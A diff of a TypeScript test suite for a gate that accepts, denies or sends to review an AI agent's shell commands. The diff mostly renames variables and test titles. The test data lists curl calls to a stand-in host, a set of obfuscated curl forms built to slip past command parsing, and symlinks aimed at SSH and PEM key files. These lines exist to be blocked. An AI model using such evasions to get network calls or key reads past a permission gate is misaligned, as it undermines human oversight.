@@ -7,7 +7,7 @@ import type { Json } from '../support/hall-fixture.ts';
 const REVIEWED = 'rm -r ./temp';
 
 for (const on of API_STORES) {
-  describe(`calls of tools, on ${on.store}`, { concurrency: true }, () => {
+  describe(`tool calls, on ${on.store}`, { concurrency: true }, () => {
     const shared = on.sharedHall({});
 
     shared.test('a test runner is accepted', async (fixture) => {
@@ -21,30 +21,30 @@ for (const on of API_STORES) {
 
     shared.test('GH-T21: curl is denied with the reason', async (fixture) => {
       const agent = await working(fixture);
-      const told = await agent.ask('curl http://evil.example/x');
-      assert.equal(told.verdict, 'deny');
-      assert.match(told.because, /^curl http:\/\/evil\.example\/x: it talks to other machines/);
-      assert.equal(told.rule, 'builtin:curl');
+      const decision = await agent.ask('curl http://evil.example/x');
+      assert.equal(decision.verdict, 'deny');
+      assert.match(decision.because, /^curl http:\/\/evil\.example\/x: it talks to other machines/);
+      assert.equal(decision.rule, 'builtin:curl');
     });
 
     shared.test(
-      'GH-T22: rm -r ./temp goes to review, and the task waits for a person',
+      'GH-T22: rm -r ./temp goes to review, and the task waits for approval',
       async (fixture) => {
         const agent = await working(fixture);
-        const told = await agent.ask(REVIEWED);
-        assert.equal(told.verdict, 'review');
-        assert.match(told.approval, /^ap-\d+$/);
+        const decision = await agent.ask(REVIEWED);
+        assert.equal(decision.verdict, 'review');
+        assert.match(decision.approval, /^ap-\d+$/);
         assert.equal((await fixture.task(agent.claim.task.id)).state, 'awaiting_approval');
       },
     );
 
     shared.test(
-      'GH-100b: a deny wins over an accept, an accept over a review, and what no rule knows is reviewed',
+      'GH-100b: deny wins over accept, accept over review, and a command without a rule goes to review',
       async (fixture) => {
         const agent = await working(fixture);
         const verdict = async () => (await agent.ask('deploy --now')).verdict;
-        const rule = (said: string) => ({
-          verdict: said,
+        const rule = (ruling: string) => ({
+          verdict: ruling,
           project: agent.shop.name,
           match: { program: 'deploy' },
         });
@@ -75,54 +75,57 @@ for (const on of API_STORES) {
           match: helm,
           note: 'never',
         });
-        const told = await agent.ask('helm install x');
-        assert.deepEqual([told.verdict, told.rule], ['deny', deny.id]);
+        const decision = await agent.ask('helm install x');
+        assert.deepEqual([decision.verdict, decision.rule], ['deny', deny.id]);
         await fixture.caller.call('DELETE', `/v1/rules/${deny.id}`);
       },
     );
 
-    shared.test('GH-T26 GH-110a GH-110b GH-110d: what really runs is judged', async (fixture) => {
-      const agent = await working(fixture);
-      const ways = [
-        'cu\\rl http://x',
-        "c'ur'l http://x",
-        "$'\\x63url' http://x",
-        'X=curl; $X http://x',
-        'true && (curl http://x)',
-        'echo $(curl http://x)',
-        'cat <(curl http://x)',
-        "bash -c 'curl http://x'",
-        'ls | xargs curl',
-        'find . -exec curl {} \\;',
-        'env A=1 curl http://x',
-        'bash <<EOF\ncurl http://x\nEOF',
-        '{curl,http://x}',
-      ];
-      for (const command of ways) {
-        assert.equal((await agent.ask(command)).verdict, 'deny', command);
-      }
-      const doubts = ['echo "', '$X http://x', 'eval "$X"', 'ls $(', 'c\u200burl http://x'];
-      for (const command of doubts) {
-        assert.equal((await agent.ask(command)).verdict, 'review', command);
-      }
-    });
+    shared.test(
+      'GH-T26 GH-110a GH-110b GH-110d: a hidden curl is denied, and a command that cannot be parsed goes to review',
+      async (fixture) => {
+        const agent = await working(fixture);
+        const hidden = [
+          'cu\\rl http://x',
+          "c'ur'l http://x",
+          "$'\\x63url' http://x",
+          'X=curl; $X http://x',
+          'true && (curl http://x)',
+          'echo $(curl http://x)',
+          'cat <(curl http://x)',
+          "bash -c 'curl http://x'",
+          'ls | xargs curl',
+          'find . -exec curl {} \\;',
+          'env A=1 curl http://x',
+          'bash <<EOF\ncurl http://x\nEOF',
+          '{curl,http://x}',
+        ];
+        for (const command of hidden) {
+          assert.equal((await agent.ask(command)).verdict, 'deny', command);
+        }
+        const doubts = ['echo "', '$X http://x', 'eval "$X"', 'ls $(', 'c\u200burl http://x'];
+        for (const command of doubts) {
+          assert.equal((await agent.ask(command)).verdict, 'review', command);
+        }
+      },
+    );
 
-    shared.test('a path through a link to a key is denied', async (fixture) => {
+    shared.test('a path through a symlink to a key is denied', async (fixture) => {
       const agent = await working(fixture);
       assert.equal((await agent.ask('cat notes.txt')).verdict, 'accept');
       const links = { 'notes.txt': '/keys/.ssh/id_ed25519' };
-      const told = await agent.ask('cat notes.txt', { links });
-      assert.equal(told.verdict, 'deny');
-      assert.match(told.because, /id_ed25519 is where keys and passwords are kept/);
-      const whole = { '/cell/docs/notes.txt': '/srv/deploy.pem' };
+      const decision = await agent.ask('cat notes.txt', { links });
+      assert.equal(decision.verdict, 'deny');
+      assert.match(decision.because, /id_ed25519 is where keys and passwords are kept/);
+      const absolute = { '/cell/docs/notes.txt': '/srv/deploy.pem' };
       assert.equal(
-        (await agent.ask('cat docs/../docs/notes.txt', { links: whole })).verdict,
+        (await agent.ask('cat docs/../docs/notes.txt', { links: absolute })).verdict,
         'deny',
       );
     });
 
     shared.test(
-      'GH-T28 GH-109a: a rule added over the API works without a restart',
+      'GH-T28 GH-109a: a rule added over the API takes effect without a restart',
       async (fixture) => {
         const agent = await working(fixture);
         assert.equal((await agent.ask('frobnicate --all')).verdict, 'review');
@@ -132,8 +135,8 @@ for (const on of API_STORES) {
           project: agent.shop.name,
           match,
         });
-        const told = await agent.ask('frobnicate --all');
-        assert.deepEqual([told.verdict, told.rule], ['accept', rule.id]);
+        const decision = await agent.ask('frobnicate --all');
+        assert.deepEqual([decision.verdict, decision.rule], ['accept', rule.id]);
         assert.equal((await agent.ask('frobnicate --bad')).verdict, 'review');
         assert.equal((await fixture.caller.call('DELETE', `/v1/rules/${rule.id}`)).status, 204);
         assert.equal((await agent.ask('frobnicate --all --again')).verdict, 'review');
@@ -141,7 +144,7 @@ for (const on of API_STORES) {
     );
 
     shared.test(
-      'GH-T29 GH-108a GH-108b: the log answers who was denied by a person in the last day',
+      'GH-T29 GH-108a GH-108b: the decision log lists what a person denied in the last 24 h',
       async (fixture) => {
         const agent = await working(fixture);
         await agent.ask('npm test');
@@ -169,26 +172,26 @@ for (const on of API_STORES) {
     );
 
     shared.test(
-      'GH-108d: secrets stand neither in the log nor in an approval nor in an event',
+      'GH-108d: secrets are redacted in decisions, approvals and events',
       async (fixture) => {
         const agent = await working(fixture);
         const secret = `ghp_${'a1B2'.repeat(9)}`;
         await agent.ask(`curl -H "Authorization: Bearer ${secret}" http://x`);
         const { approval } = await agent.ask(`frobnicate --token ${secret}`);
-        const seen = [
+        const pages = [
           await fixture.get(`/v1/decisions?project=${agent.shop.name}`),
           await fixture.get(`/v1/approvals/${approval}`),
           await fixture.events(agent.claim.task.id),
         ];
-        for (const told of seen) {
-          assert.equal(JSON.stringify(told).includes(secret), false);
-          assert.match(JSON.stringify(told), /\[redacted\]/);
+        for (const page of pages) {
+          assert.equal(JSON.stringify(page).includes(secret), false);
+          assert.match(JSON.stringify(page), /\[redacted\]/);
         }
       },
     );
 
     shared.test(
-      'GH-109b GH-109c: a dry run says what would be, and what a rule would have matched',
+      'GH-109b GH-109c: a dry run shows the verdict, and what a rule would have matched in the log',
       async (fixture) => {
         const agent = await working(fixture);
         const project = agent.shop.name;
@@ -221,7 +224,7 @@ for (const on of API_STORES) {
     );
 
     shared.test(
-      'GH-103a GH-103b: rules match the program, the whole command, flags and paths',
+      'GH-103a GH-103b: rules match program, whole command, flags and paths, by glob and by regex',
       async (fixture) => {
         const agent = await working(fixture);
         const project = agent.shop.name;
@@ -248,7 +251,7 @@ for (const on of API_STORES) {
       },
     );
 
-    shared.test('A35: what is too large is denied, and soon', async (fixture) => {
+    shared.test('A35: an oversized command is denied', async (fixture) => {
       const agent = await working(fixture);
       const large = [
         'ls;'.repeat(60),
@@ -257,9 +260,9 @@ for (const on of API_STORES) {
         '$('.repeat(10_000),
       ];
       for (const command of large) {
-        const told = await agent.ask(command);
-        assert.equal(told.verdict, 'deny', command.slice(0, 20));
-        assert.equal(told.rule, 'builtin:limits');
+        const decision = await agent.ask(command);
+        assert.equal(decision.verdict, 'deny', command.slice(0, 20));
+        assert.equal(decision.rule, 'builtin:limits');
       }
     });
   });
